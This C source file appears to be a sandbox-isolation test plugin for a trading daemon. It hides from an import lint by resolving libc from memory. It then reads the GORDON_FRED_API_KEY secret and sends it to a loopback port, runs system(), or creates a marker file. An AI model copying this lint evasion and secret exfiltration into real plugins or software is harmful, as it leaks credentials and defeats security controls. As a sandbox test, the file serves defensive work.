/* Isolation class 1: libc resolved from memory. The plugin imports nothing
 * the lint refuses; on its first bar it finds libc by the route its `route`
 * parameter names (fnptr, rdebug, auxv: see iso.h), looks up socket,
 * connect, write, getenv, system and open by name, and calls them:
 *  attack = connect: 127.0.0.1:port, sending the daemon's
 *                    GORDON_FRED_API_KEY as getenv sees it;
 *  attack = system:  system("touch MARKER"), i.e. /bin/sh -c;
 *  attack = open:    open(MARKER, O_CREAT | O_WRONLY) and a write.
 * Outside a sandbox each of these works (the suite's control run proves
 * it); in a worker the first forbidden system call kills the process. */
#include "iso.h"

typedef int (*socket_fn)(int, int, int);
typedef int (*connect_fn)(int, const void *, unsigned);
typedef long (*write_fn)(int, const void *, size_t);
typedef int (*system_fn)(const char *);
typedef int (*open_fn)(const char *, int, ...);
typedef char *(*getenv_fn)(const char *);

static int create(const gordon_host_api *api, gordon_ctx *ctx, void **instance, char *err, size_t err_len)
{
    (void)err, (void)err_len;
    if (iso_create_common(api, ctx, instance) != 0)
        return -1;
    iso_self *s = *instance;
    iso_str_param(s, "route", s->path2, sizeof s->path2);
    return 0;
}

static void attack_connect(iso_self *s, const iso_obj *libc)
{
    socket_fn so = (socket_fn)iso_sym(libc, "socket");
    connect_fn co = (connect_fn)iso_sym(libc, "connect");
    write_fn wr = (write_fn)iso_sym(libc, "write");
    getenv_fn ge = (getenv_fn)iso_sym(libc, "getenv");
    if (!so || !co || !wr || !ge) {
        iso_log(s, "a symbol lookup", -1);
        return;
    }
    const char *secret = ge("GORDON_FRED_API_KEY");
    char payload[256];
    snprintf(payload, sizeof payload, "iso_libc_walk route=%s secret=%s\n", s->path2, secret ? secret : "(none)");
    iso_log(s, "calling socket() found in memory", 0);
    int fd = so(2, 1, 0);
    iso_log(s, "socket()", fd);
    if (fd < 0)
        return;
    iso_sin sa = iso_loopback((int)s->port);
    int rc = co(fd, &sa, sizeof sa);
    iso_log(s, "connect()", rc);
    if (rc == 0)
        iso_log(s, "write()", wr(fd, payload, strlen(payload)));
}

static void on_bar(void *instance, uint32_t symbol, const gordon_bar *bar)
{
    iso_self *s = instance;
    iso_obj libc;
    (void)symbol;
    if (!iso_now(s, bar) || iso_find_libc(&libc, s->path2, s->api, s->ctx) != 0)
        return;
    if (!strcmp(s->attack, "connect")) {
        attack_connect(s, &libc);
    } else if (!strcmp(s->attack, "system")) {
        system_fn sy = (system_fn)iso_sym(&libc, "system");
        char cmd[600];
        snprintf(cmd, sizeof cmd, "touch '%s'", s->marker);
        iso_log(s, "calling system() found in memory", 0);
        if (sy)
            iso_log(s, "system()", sy(cmd));
    } else if (!strcmp(s->attack, "open")) {
        open_fn op = (open_fn)iso_sym(&libc, "open");
        write_fn wr = (write_fn)iso_sym(&libc, "write");
        iso_log(s, "calling open(O_CREAT|O_WRONLY) found in memory", 0);
        int fd = op && wr ? op(s->marker, O_CREAT | O_WRONLY | O_TRUNC, 0644) : -1;
        iso_log(s, "open()", fd);
        if (fd >= 0)
            iso_log(s, "write()", wr(fd, "iso_libc_walk\n", 14));
    }
}

static const gordon_param params[] = {
    ISO_PARAM_FROM,
    ISO_PARAM_STR("route", "fnptr, rdebug or auxv"),
    ISO_PARAM_STR("attack", "connect, system or open"),
    ISO_PARAM_PORT,
    ISO_PARAM_STR("marker", "a file the attack tries to create"),
};

static const gordon_plugin desc = {
    GORDON_PLUGIN_HEADER(GORDON_KIND_STRATEGY),
    .name = "iso_libc_walk",
    .version = "1.0",
    .params = params,
    .n_params = sizeof params / sizeof params[0],
    .create = create,
    .destroy = iso_destroy,
    .on_bar = on_bar,
};

GORDON_PLUGIN_ENTRY(desc)
